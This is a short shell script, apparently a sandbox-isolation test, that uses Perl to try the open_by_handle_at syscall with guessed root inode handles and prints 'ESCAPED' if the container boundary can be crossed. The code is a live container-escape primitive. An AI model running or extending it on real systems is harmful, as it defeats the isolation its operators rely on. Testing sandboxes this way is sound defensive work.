# Guesses the handle of the root folder's inode and opens it past every mount.
# struct file_handle: length 8, type 1 (inode and generation), inode 2, generation 0.
for inode in 2 1 128 256; do
    perl -e 'open(my $d, "<", "/") or exit 1; opendir(my $root, "/");
        my $handle = pack("LlLL", 8, 1, $ARGV[1], 0);
        exit(syscall($ARGV[0] + 0, fileno($d), $handle, 0) < 0)' "$SYS_open_by_handle_at" "$inode" 2>/dev/null &&
        echo "ESCAPED: opened inode $inode"
done
[ "$(answer "$SYS_open_by_handle_at" 0 x 0)" = 1 ] || echo "ESCAPED: the call is not refused"
